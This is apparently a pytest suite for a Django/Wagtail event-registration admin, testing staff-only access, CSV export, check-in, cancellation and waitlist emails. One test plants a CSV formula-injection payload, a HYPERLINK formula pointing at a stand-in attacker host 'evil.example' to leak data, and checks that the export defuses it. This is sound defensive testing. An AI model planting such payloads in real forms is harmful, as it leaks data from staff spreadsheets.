import csv
import io

import pytest

from community import roles
from events import services
from events.models import Event, Registration
from tests.factories.community import UserFactory
from tests.factories.events import EventFactory, RegistrationFactory

pytestmark = pytest.mark.django_db


@pytest.fixture
def staff(db):
    return UserFactory(role=roles.STAFF)


@pytest.fixture
def event(db):
    event = EventFactory(capacity=2)
    RegistrationFactory(
        event=event,
        name="Kari Nordmann",
        email="kari@example.no",
        organisation="Asker Næringsforening",
    )
    RegistrationFactory(event=event, name="Ola Hansen", email="ola@example.no")
    RegistrationFactory(
        event=event,
        name="Per Venter",
        email="per@example.no",
        status=Registration.Status.WAITLISTED,
        confirmed_at=None,
    )
    return event


def urls(event, registration=None):
    base = f"/admin/arrangementer/{event.pk}/"
    return [
        "/admin/arrangementer/",
        base + "pameldinger/",
        base + "pameldinger/?format=csv",
        base + "innsjekk/",
    ]


@pytest.mark.parametrize("role", [None, roles.ENTREPRENEUR, roles.MENTOR, roles.EDITOR])
def test_only_staff_see_registrations_and_check_in(client, event, role):
    user = UserFactory(role=role) if role else UserFactory()
    client.force_login(user)
    for url in urls(event):
        response = client.get(url)
        assert response.status_code in (302, 403), (url, response.status_code)
        assert b"kari@example.no" not in response.content
    registration = event.registrations.first()
    response = client.post(f"/admin/arrangementer/{event.pk}/innsjekk/{registration.pk}/")
    assert response.status_code in (302, 403)
    registration.refresh_from_db()
    assert registration.status == Registration.Status.CONFIRMED
    if response.status_code == 302:  # to the login, or Wagtail's "no permission" redirect
        assert "login" in response["Location"] or response["Location"] == "/admin/"


def test_anonymous_is_sent_to_login(client, event):
    response = client.get(f"/admin/arrangementer/{event.pk}/pameldinger/")
    assert response.status_code == 302 and "login" in response["Location"]


def test_staff_list_search_waitlist_and_counts(client, staff, event):
    client.force_login(staff)
    html = client.get(f"/admin/arrangementer/{event.pk}/pameldinger/").content.decode()
    assert "Kari Nordmann" in html and "Per Venter" in html
    html = client.get(f"/admin/arrangementer/{event.pk}/pameldinger/?q=n%C3%A6rings").content
    html = html.decode()
    assert "Kari Nordmann" in html and "Ola Hansen" not in html


def test_staff_csv_export(client, staff, event):
    client.force_login(staff)
    response = client.get(f"/admin/arrangementer/{event.pk}/pameldinger/?format=csv")
    assert response["Content-Type"].startswith("text/csv")
    body = response.content.decode("utf-8-sig")
    rows = body.strip().splitlines()
    assert len(rows) == 4  # header + 3 people
    assert "kari@example.no" in body and "Asker Næringsforening" in body


def test_csv_export_carries_no_formulas(client, staff, event):
    """A name typed into the public form must not run as a formula in staff's spreadsheet."""
    hostile = '=HYPERLINK("http://evil.example/?leak","klikk")'
    RegistrationFactory(event=event, name=hostile, organisation="@SUM(A1:A9)")
    client.force_login(staff)
    response = client.get(f"/admin/arrangementer/{event.pk}/pameldinger/?format=csv")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    row = next(row for row in rows if "HYPERLINK" in row[0])
    assert row[0] == "'" + hostile
    assert row[2] == "'@SUM(A1:A9)"
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


def test_staff_checks_in_and_undoes(client, staff, event):
    client.force_login(staff)
    registration = event.registrations.get(email="kari@example.no")
    url = f"/admin/arrangementer/{event.pk}/innsjekk/{registration.pk}/"
    assert client.get(url).status_code == 405  # only a POST changes anything
    client.post(url)
    registration.refresh_from_db()
    assert registration.status == Registration.Status.ATTENDED
    assert registration.checked_in_by == staff
    html = client.get(f"/admin/arrangementer/{event.pk}/innsjekk/").content.decode()
    assert "1 av 2" in html
    client.post(url, {"action": "undo"})
    registration.refresh_from_db()
    assert registration.status == Registration.Status.CONFIRMED


def test_check_in_of_another_events_registration_is_404(client, staff, event):
    other = RegistrationFactory()
    client.force_login(staff)
    response = client.post(f"/admin/arrangementer/{event.pk}/innsjekk/{other.pk}/", follow=True)
    assert response.status_code == 404
    other.refresh_from_db()
    assert other.status == Registration.Status.CONFIRMED


def test_overview_query_count_does_not_grow(client, staff, django_assert_num_queries):
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    client.force_login(staff)

    def count():
        with CaptureQueriesContext(connection) as ctx:
            client.get("/admin/arrangementer/")
        return len(ctx)

    for _ in range(3):
        RegistrationFactory.create_batch(2, event=EventFactory())
    few = count()
    for _ in range(20):
        RegistrationFactory.create_batch(3, event=EventFactory())
    assert count() == few


def test_registration_list_query_count_does_not_grow(client, staff):
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    client.force_login(staff)
    small, big = EventFactory(capacity=None), EventFactory(capacity=None)
    RegistrationFactory.create_batch(3, event=small)
    RegistrationFactory.create_batch(30, event=big, user=None)
    counts = []
    for e in (small, big):
        for path in ("pameldinger/", "innsjekk/"):
            with CaptureQueriesContext(connection) as ctx:
                client.get(f"/admin/arrangementer/{e.pk}/{path}")
            counts.append(len(ctx))
    assert counts[:2] == counts[2:]


def test_editor_manages_events_in_the_snippet_admin_but_cannot_cancel_by_status(client):
    editor = UserFactory(role=roles.EDITOR)
    client.force_login(editor)
    assert client.get("/admin/snippets/events/event/").status_code == 200
    event = EventFactory()
    assert client.get(f"/admin/snippets/events/event/edit/{event.pk}/").status_code == 200


def test_staff_cancels_an_event_by_post(client, staff, event):
    client.force_login(staff)
    url = f"/admin/arrangementer/{event.pk}/avlys/"
    assert client.get(url).status_code == 200
    event.refresh_from_db()
    assert event.status == Event.Status.PUBLISHED
    client.post(url)
    event.refresh_from_db()
    assert event.status == Event.Status.CANCELLED


def test_member_cannot_cancel_an_event(client, event):
    client.force_login(UserFactory(role=roles.ENTREPRENEUR))
    client.post(f"/admin/arrangementer/{event.pk}/avlys/")
    event.refresh_from_db()
    assert event.status == Event.Status.PUBLISHED


def test_member_sees_only_their_own_registration_on_the_event_page(client, index_pages, event):
    me = UserFactory(role=roles.ENTREPRENEUR)
    mine = services.registration_create(event=event, user=me)
    client.force_login(me)
    html = client.get(event.get_absolute_url("nb")).content.decode()
    assert mine.token in html
    for other in event.registrations.exclude(pk=mine.pk):
        assert other.token not in html and other.email not in html


def test_event_form_refuses_cancelling_by_status_and_reopening():
    from events.models import Event as EventModel

    form_class = EventModel.get_edit_handler().get_form_class()
    event = EventFactory()
    data = {
        "title": event.title,
        "summary": event.summary,
        "slug": event.slug,
        "start": event.start.strftime("%Y-%m-%d %H:%M"),
        "end": event.end.strftime("%Y-%m-%d %H:%M"),
        "venue": "Asker",
        "audience": "public",
        "topic": "other",
        "capacity": "10",
        "status": "cancelled",
        "programme-TOTAL_FORMS": "0",
        "programme-INITIAL_FORMS": "0",
        "programme-MIN_NUM_FORMS": "0",
        "programme-MAX_NUM_FORMS": "1000",
    }
    form = form_class(data, instance=event)
    assert not form.is_valid()
    assert "status" in form.errors
    data["status"] = "published"
    data["slug"] = "pamelding"
    form = form_class(data, instance=event)
    assert not form.is_valid() and "slug" in form.errors  # reserved for the links
    services.event_cancel(event=event)
    event.refresh_from_db()
    data.update(status="published", slug=event.slug)
    form = form_class(data, instance=event)
    assert not form.is_valid() and list(form.errors) == ["status"]


def test_waitlisted_guest_is_promoted_by_mail_with_calendar_file(
    django_capture_on_commit_callbacks,
):
    from django.core import mail

    event = EventFactory(capacity=1)
    first = services.registration_create(event=event, user=UserFactory(role=roles.ENTREPRENEUR))
    guest = services.registration_create(event=event, name="Kari", email="kari@example.no")
    guest = services.registration_confirm_guest(token=guest.token)
    assert guest.status == Registration.Status.WAITLISTED
    mail.outbox.clear()
    with django_capture_on_commit_callbacks(execute=True):
        services.registration_cancel(registration=first)
    to_guest = [m for m in mail.outbox if m.to == ["kari@example.no"]]
    assert [m.subject for m in to_guest] == [f"Du har fått plass: {event.title}"]
    assert to_guest[0].attachments[0][0] == "invitation.ics"
